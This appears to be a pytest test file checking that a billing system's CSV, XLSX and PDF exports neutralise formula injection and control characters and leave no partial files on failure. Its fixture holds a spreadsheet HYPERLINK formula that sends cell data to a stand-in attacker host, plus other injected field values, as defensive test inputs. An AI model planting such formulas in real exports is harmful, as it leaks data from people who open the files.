"""Exports never pass hostile text on: no formula, no control character, no partial file.

Cases covered:
- CSV and XLSX: a system name and department name starting with ``=``, ``+``, ``-`` or
  ``@`` are written as text with a leading apostrophe; negative amounts stay numbers;
- XLSX: an ESC character (which openpyxl refuses) is written as U+FFFD instead of crashing
  and leaving a 0-byte file; the PDF shows the same replacement;
- a writer failing midway leaves no file at the destination, keeps an earlier file of
  that name intact and leaves no temporary file beside it; a stream receives nothing.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import BinaryIO
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

import controlplane.billing.exports as exports
from controlplane.billing import (
    Adjustment,
    AdjustmentKind,
    Month,
    Observation,
    RateCard,
    Statement,
    Tier,
    build_intervals,
    build_statements,
    ownership_from_observations,
    rate_month,
)
from controlplane.billing.exports import export
from controlplane.billing.exports.cells import spreadsheet_text

MARCH = Month.parse("2026-03")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SHANGHAI = ZoneInfo("Asia/Shanghai")


@pytest.fixture
def hostile(
    card: RateCard, tiers: dict[str, Tier], tenants: dict[str, str]
) -> tuple[Statement, ...]:
    start, end = datetime(2026, 3, 1, tzinfo=SHANGHAI), datetime(2026, 3, 2, tzinfo=SHANGHAI)
    usage = [
        Observation("prov-main", "poll", "1", "vm-1", "hrss", FORMULA, "compute.vcpu",
                    Decimal(2), start, end),
        Observation("prov-main", "poll", "2", "vm-2", "hrss", "sys\x1bname", "compute.vcpu",
                    Decimal(2), start, end),
    ]  # fmt: skip
    names = tenants | {"hrss": "+SUM(A1:A9)"}
    refund = Adjustment("hrss", AdjustmentKind.SLA, "@cmd", "-approver", Decimal("-1.00"),
                        "2026-03", "prov-main", "evidence")  # fmt: skip
    rating = rate_month(
        MARCH, build_intervals(usage), ownership_from_observations(usage), card, tiers
    )
    return build_statements(MARCH, rating.lines, [refund], names, card)


def test_spreadsheet_text() -> None:
    assert spreadsheet_text("=1+1") == "'=1+1"
    assert [spreadsheet_text(c + "x") for c in "+-@\t"] == ["'+x", "'-x", "'@x", "'\tx"]
    assert spreadsheet_text("a\x1bb\x00") == "a\ufffdb\ufffd"
    assert spreadsheet_text("省人社厅 = 部门") == "省人社厅 = 部门"


def test_csv_cells_are_never_formulas(hostile: tuple[Statement, ...]) -> None:
    out = io.BytesIO()
    export(hostile, "csv", out, "en")
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{FORMULA}" in cells and "'+SUM(A1:A9)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or "\x1b" in c]
    assert "sys\ufffdname" in cells
    amounts = [row[16] for row in rows[1:]]
    assert "-1.00" in amounts  # a negative amount is a number, left alone


def test_xlsx_escapes_formulas_and_control_characters(
    hostile: tuple[Statement, ...], tmp_path: Path
) -> None:
    target = tmp_path / "bill.xlsx"
    export(hostile, "xlsx", target)
    book = load_workbook(target)
    texts = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)]  # fmt: skip
    assert "'+SUM(A1:A9)" in texts  # the department's name, a cell of its own
    assert any(FORMULA in t for t in texts) and any("sys\ufffdname" in t for t in texts)
    assert not [t for t in texts if t.startswith(("=", "+", "@"))]
    numbers = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
               if isinstance(c.value, int | float)]  # fmt: skip
    assert -1 in numbers


def test_pdf_shows_replacement_character(hostile: tuple[Statement, ...]) -> None:
    out = io.BytesIO()
    export(hostile, "pdf", out)
    text = "".join(page.extract_text() for page in PdfReader(out).pages)
    assert "\x1b" not in text


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "pdf", "json"])
def test_failed_export_leaves_no_partial_file(
    hostile: tuple[Statement, ...], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    def half_then_fail(statements: object, out: BinaryIO, lang: str) -> None:
        out.write(b"partial")
        raise RuntimeError("disk full")

    monkeypatch.setitem(exports._WRITERS, exports.ExportFormat(fmt), half_then_fail)
    fresh, earlier = tmp_path / f"new.{fmt}", tmp_path / f"old.{fmt}"
    earlier.write_bytes(b"last month's good file")
    for target in (fresh, earlier):
        with pytest.raises(RuntimeError):
            export(hostile, fmt, target)
    assert not fresh.exists()
    assert earlier.read_bytes() == b"last month's good file"
    assert sorted(p.name for p in tmp_path.iterdir()) == [earlier.name]
    stream = io.BytesIO()
    with pytest.raises(RuntimeError):
        export(hostile, fmt, stream)
    assert stream.getvalue() == b""
